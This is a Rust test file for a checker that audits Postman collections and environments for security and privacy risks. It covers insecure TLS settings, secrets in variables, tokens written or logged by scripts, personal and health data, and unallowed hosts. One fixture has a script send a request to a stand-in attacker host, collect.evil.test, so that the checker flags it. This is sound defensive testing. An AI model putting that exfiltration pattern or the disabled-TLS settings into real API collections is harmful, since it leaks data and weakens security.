//! The checks on made documents, in every format they come in.

use super::{Check, Options, Posture, inspect};
use crate::Artefact;

fn posture_with(text: &str, name: &str, options: &Options) -> Posture {
    let posture = inspect(&Artefact::new(text.as_bytes(), name), options).unwrap();
    for seen in &posture.observations {
        assert!(seen.span.end <= text.len() && seen.line >= 1 && seen.column >= 1 && seen.count >= 1);
        assert!(!seen.detail.is_empty(), "{:?}", seen.check);
    }
    posture
}

/// What `check` saw, with counts.
fn seen_with(check: Check, text: &str, name: &str, options: &Options) -> Vec<(String, usize)> {
    let posture = posture_with(text, name, options);
    let seen = posture.observations.into_iter().filter(|seen| seen.check == check);
    seen.map(|seen| (seen.detail, seen.count)).collect()
}

fn seen(check: Check, text: &str) -> Vec<String> {
    seen_with(check, text, "made.json", &Options::default()).into_iter().map(|(detail, _)| detail).collect()
}

const INFO: &str = r#""info": {"name": "Shop", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"}"#;

/// A collection of one request with these members.
fn request(url: &str, members: &str) -> String {
    format!(
        r#"{{{INFO}, "item": [{{"name": "Pay", "request": {{"method": "POST", "url": "{url}"}}{members}}}]}}"#
    )
}

fn script(lines: &[&str]) -> String {
    let exec = serde_json::to_string(lines).unwrap();
    request(
        "https://api.shop.test/pay",
        &format!(r#", "event": [{{"listen": "test", "script": {{"exec": {exec}}}}}]"#),
    )
}

fn environment(values: &str) -> String {
    format!(r#"{{"name": "Prod", "values": [{values}], "_postman_variable_scope": "environment"}}"#)
}

fn body(json: &str) -> String {
    let raw = serde_json::to_string(json).unwrap();
    format!(
        r#"{{{INFO}, "item": [{{"name": "Pay", "request": {{"url": "https://api.shop.test", "body": {{"mode": "raw", "raw": {raw}}}}}}}]}}"#
    )
}

#[test]
fn plain_http() {
    let check = Check::PlainHttp;
    assert_eq!(seen(check, &request("http://api.shop.test/x", "")), ["http://api.shop.test"]);
    assert_eq!(seen(check, &request("http://{{host}}/x", "")), ["http://{{host}}"]);
    assert_eq!(
        seen(check, &environment(r#"{"key": "base", "value": "ws://api.shop.test"}"#)),
        ["ws://api.shop.test"]
    );
    assert_eq!(seen(check, &script(&["pm.sendRequest('http://log.shop.test/x')"])), ["http://log.shop.test"]);
    let parts = r#"{"item": [{"request": {"url": {"protocol": "http", "host": ["api", "shop", "test"]}}}]}"#;
    assert_eq!(seen(check, &parts.replacen('{', &format!("{{{INFO}, "), 1)), ["http://api.shop.test"]);
    let token = r#", "auth": {"type": "oauth2", "oauth2": [{"key": "accessTokenUrl", "value": "http://sso.shop.test/t"}]}"#;
    assert_eq!(seen(check, &request("https://api.shop.test", token)), ["http://sso.shop.test"]);
    let bare = seen(check, &request("api.shop.test/x", ""));
    assert_eq!(bare, ["http://api.shop.test (the URL has no scheme)"]);
    for url in ["https://api.shop.test", "http://localhost:3000/x", "http://127.0.0.1", "{{base}}/x"] {
        assert_eq!(seen(check, &request(url, "")), [""; 0], "{url}");
    }
}

#[test]
fn settings_of_requests_in_every_format() {
    let settings = r#"{"strictSSL": false, "followAuthorizationHeader": true, "insecureHTTPParser": true, "tlsDisabledProtocols": ["TLSv1", "TLSv1_2"], "tlsCipherSelection": ["TLS_RSA_WITH_RC4_128_SHA"]}"#;
    let wanted = [
        (Check::TlsVerificationOff, "strictSSL is false"),
        (Check::TlsDowngrade, "TLSv1_2 is switched off"),
        (Check::TlsDowngrade, "cipher TLS_RSA_WITH_RC4_128_SHA"),
        (Check::AuthorizationFollowsRedirect, "followAuthorizationHeader is true"),
        (Check::InsecureParser, "insecureHTTPParser is true"),
    ];
    let member = format!(r#", "protocolProfileBehavior": {settings}"#);
    let v1 = format!(
        r#"{{"id": "c", "name": "Shop", "order": ["r"], "requests": [{{"id": "r", "name": "Pay", "url": "https://a.test", "protocolProfileBehavior": {settings}}}]}}"#
    );
    let dump = format!(r#"{{"version": 1, "collections": [{v1}], "environments": []}}"#);
    let v3 = format!("$kind: http-request\nname: Pay\nurl: https://a.test\nsettings: {settings}\n");
    let collection = format!(r#"{{{INFO}, "item": []{member}}}"#);
    for (text, name) in [
        (request("https://a.test", &member), "c.json"),
        (format!(r#"{{"collection": {}}}"#, request("https://a.test", &member)), "api.json"),
        (collection, "c.json"),
        (v1, "c.json"),
        (dump, "d.json"),
        (v3, "Pay.request.yaml"),
    ] {
        let posture = posture_with(&text, name, &Options::default());
        let seen: Vec<_> = posture.observations.iter().map(|o| (o.check, o.detail.as_str())).collect();
        assert_eq!(seen, wanted, "{text}");
        assert!(posture.observations.iter().all(|o| o.location.field.is_some()));
    }
    let safe = r#", "protocolProfileBehavior": {"strictSSL": true, "followAuthorizationHeader": false, "tlsDisabledProtocols": ["TLSv1", "TLSv1_1"]}"#;
    assert!(
        posture_with(&request("https://a.test", safe), "c.json", &Options::default()).observations.is_empty()
    );
}

#[test]
fn secrets_in_variables() {
    let made = "8FMPcMXkEENsG6RG4u1yGwQBnNrnEnLq";
    let values = format!(
        r#"{{"key": "client_secret", "value": "{made}", "type": "default"}},
        {{"key": "api_token", "value": "{{{{vault:token}}}}"}},
        {{"key": "other_token", "value": "", "source": {{"provider": "postman"}}}},
        {{"key": "pin", "value": "blue-tiger-lantern", "type": "secret"}},
        {{"key": "password", "value": "{{{{other}}}}"}}, {{"key": "access_token", "value": ""}},
        {{"key": "region", "value": "eu-west"}}"#
    );
    let posture = posture_with(&environment(&values), "e.json", &Options::default());
    let seen: Vec<_> =
        posture.observations.iter().map(|o| (o.check, o.location.field.as_deref().unwrap())).collect();
    assert_eq!(
        seen,
        [
            (Check::SecretInVariable, "client_secret"),
            (Check::SecretInVariable, "pin"),
            (Check::PlainSecretVariable, "client_secret")
        ]
    );
    assert_eq!((posture.variables_literal, posture.variables_vault), (2, 2));
    let collection =
        format!(r#"{{{INFO}, "item": [], "variable": [{{"key": "client_secret", "value": "{made}"}}]}}"#);
    assert_eq!(self::seen(Check::PlainSecretVariable, &collection), [""; 0]);
    assert_eq!(self::seen(Check::SecretInVariable, &collection).len(), 1);
}

#[test]
fn tokens_written_by_scripts() {
    let check = Check::TokenWrittenByScript;
    let written = script(&[
        "const data = pm.response.json();",
        "pm.environment.set('access_token', data.token);",
        "pm.globals.set(\"session\", data.access_token);",
        "postman.setEnvironmentVariable('refreshToken', t);",
    ]);
    assert_eq!(
        seen(check, &written),
        [
            "pm.environment.set(access_token)",
            "pm.globals.set(session)",
            "postman.setEnvironmentVariable(refreshToken)"
        ]
    );
    for line in [
        "pm.environment.set('access_token', '')",
        "pm.environment.set('access_token', null)",
        "pm.variables.set('access_token', data.token)",
        "pm.vault.set('access_token', data.token)",
        "pm.environment.set('order_id', data.id)",
        "pm.environment.unset('access_token')",
        "// pm.environment.set('access_token', data.token)",
        "pm.environment.set('token_expiry', data.at)",
    ] {
        assert_eq!(seen(check, &script(&[line])), [""; 0], "{line}");
    }
}

#[test]
fn secrets_logged() {
    let check = Check::SecretLogged;
    for (line, wanted) in [
        ("console.log('token', data.access_token)", "console.log(access_token)"),
        ("console.log(`token: ${token}`)", "console.log(token)"),
        ("console.error(pm.environment.get('client_secret'))", "console.error(client_secret)"),
        ("console.info(data['password'])", "console.info(password)"),
    ] {
        assert_eq!(seen(check, &script(&[line])), [wanted], "{line}");
    }
    for line in [
        "console.log('the token is there')",
        "console.log(token.length)",
        "console.log(data.id)",
        "log(token)",
        "// console.log(token)",
    ] {
        assert_eq!(seen(check, &script(&[line])), [""; 0], "{line}");
    }
}

#[test]
fn scripts_that_send_out() {
    let check = Check::ScriptSendsOut;
    let text = script(&[
        "pm.sendRequest('https://collect.evil.test/x', done);",
        "const url = 'https://other.test/y'; pm.sendRequest({ method: 'POST', url: url, body: b }, done);",
        "pm.sendRequest('https://auth.shop.test/token', done); pm.sendRequest(pm.variables.get('u'), done);",
    ]);
    assert_eq!(seen(check, &text), ["pm.sendRequest: collect.evil.test", "pm.sendRequest: other.test"]);
    let options = Options { allowed_hosts: vec!["other.test".to_owned()], ..Options::default() };
    let listed = seen_with(check, &text, "c.json", &options);
    let listed: Vec<&str> = listed.iter().map(|(detail, _)| detail.as_str()).collect();
    assert_eq!(listed, ["pm.sendRequest: collect.evil.test", "pm.sendRequest: auth.shop.test"]);
    let hosts = posture_with(&text, "c.json", &Options::default()).hosts;
    assert_eq!((hosts.get("api.shop.test"), hosts.get("collect.evil.test")), (Some(&1), Some(&1)));
}

#[test]
fn hosts_on_a_list() {
    let check = Check::HostNotAllowed;
    let options = Options { allowed_hosts: vec!["*.shop.test".to_owned()], ..Options::default() };
    let seen = |text: &str| seen_with(check, text, "c.json", &options);
    assert_eq!(seen(&request("https://api.shop.test/x", "")), []);
    assert_eq!(seen(&request("https://api.other.test/x", "")), [("api.other.test".to_owned(), 1)]);
    assert_eq!(seen(&request("{{base}}/x", "")), []);
    assert_eq!(seen(&environment(r#"{"key": "base", "value": "https://api.other.test"}"#)).len(), 1);
    assert_eq!(self::seen(check, &request("https://api.other.test/x", "")), [""; 0]);
}

#[test]
fn personal_data_is_counted() {
    let check = Check::PersonalData;
    let text = body(
        r#"{"users": [{"email": "mara.vogt@nordhafen.de", "phone": "+49 30 901820-48", "ssn": "536-22-8174"},
        {"email": "ole@nordhafen.de", "mobile": "0301 9018204", "dob": "1984-03-12"}, {"email": "mara.vogt@nordhafen.de", "note": "{{email}}"}]}"#,
    );
    let wanted =
        [("US social security number", 1), ("date of birth", 1), ("e-mail address", 2), ("phone number", 2)];
    assert_eq!(
        seen_with(check, &text, "c.json", &Options::default()),
        wanted.map(|(kind, count)| (kind.to_owned(), count))
    );
    let posture = posture_with(&text, "c.json", &Options::default());
    assert!(posture.observations.iter().all(|o| o.location.request.as_deref() == Some("Pay")));
    assert!(!format!("{posture:?}").contains("vogt") && !format!("{posture:?}").contains("8174"));
    let values = r#"{"key": "user", "value": "mara.vogt@nordhafen.de"}, {"key": "ssn", "value": "{{ssn}}"}"#;
    assert_eq!(seen(check, &environment(values)), ["e-mail address"]);
    assert_eq!(
        seen(
            check,
            &body(
                r#"{"email": "jane@example.com", "id": 4532719048820167, "phone": "{{phone}}", "ssn": "123-45-6789"}"#
            )
        ),
        [""; 0]
    );
}

#[test]
fn health_data_is_counted() {
    let check = Check::HealthData;
    let text = body(
        r#"{"resourceType": "Patient", "mrn": "MR-48213", "diagnosis": "E11.9", "medications": ["metformin", "insulin"], "allergies": []}"#,
    );
    let wanted = [
        ("FHIR resource of a patient", 1),
        ("diagnosis", 1),
        ("medical record number", 1),
        ("treatment or medication", 2),
    ];
    assert_eq!(
        seen_with(check, &text, "c.json", &Options::default()),
        wanted.map(|(kind, count)| (kind.to_owned(), count))
    );
    assert_eq!(
        seen(
            check,
            &body(
                r#"{"resourceType": "Bundle", "diagnosis": "{{diagnosis}}", "medication": true, "patientId": ""}"#
            )
        ),
        [""; 0]
    );
}

#[test]
fn internal_hosts_of_public_artefacts() {
    let check = Check::InternalHostPublic;
    let text = request("https://10.1.2.3/x", "");
    assert_eq!(seen(check, &text), [""; 0]);
    let public = Options { public: true, ..Options::default() };
    assert_eq!(seen_with(check, &text, "c.json", &public), [("10.1.2.3".to_owned(), 1)]);
    let told = r#"{"isPublic": true, "name": "e", "values": [{"key": "base", "value": "https://db.corp.internal/x"}]}"#;
    assert_eq!(seen(check, told), ["db.corp.internal"]);
}

#[test]
fn vaults_in_plaintext() {
    let vault = r#"{"_postman_variable_scope": "vault", "values": [{"key": "a", "value": "one"}, {"key": "b", "value": "two"}, {"key": "c", "value": ""}]}"#;
    let seen = seen_with(Check::PlainVaultExport, vault, "vault.json", &Options::default());
    assert_eq!(seen, [("secrets of a vault in plaintext".to_owned(), 2)]);
}

#[test]
fn classification() {
    let check = Check::Unclassified;
    let options =
        Options { classification: vec!["internal".to_owned(), "public".to_owned()], ..Options::default() };
    let seen = |text: &str, name: &str| seen_with(check, text, name, &options).len();
    assert_eq!(seen(&request("https://a.test", ""), "c.json"), 1);
    assert_eq!(seen(&request("https://a.test", "").replace("Shop", "Shop (Internal)"), "c.json"), 0);
    assert_eq!(
        seen(&environment("").replace(r#""name""#, r#""tags": [{"slug": "public"}], "name""#), "e.json"),
        0
    );
    assert_eq!(seen(&environment(""), "e.json"), 1);
    let globals = r#"{"name": "Globals", "_postman_variable_scope": "globals", "values": []}"#;
    assert_eq!(seen(globals, "g.json"), 0);
    let definition = "postman/collections/Shop/.resources/definition.yaml";
    assert_eq!(seen("$kind: collection\nname: Shop\n", definition), 1);
    assert_eq!(self::seen(check, &environment("")), [""; 0]);
}

#[test]
fn names_of_observations_are_redacted() {
    let made = "8FMPcMXkEENsG6RG4u1yGwQBnNrnEnLq";
    let text = format!(
        r#"{{{INFO}, "item": [{{"name": "{made}", "request": {{"url": "http://{made}.shop.test/?client_secret={made}"}}}}]}}"#
    );
    assert!(!format!("{:?}", posture_with(&text, "c.json", &Options::default())).contains(made));
}
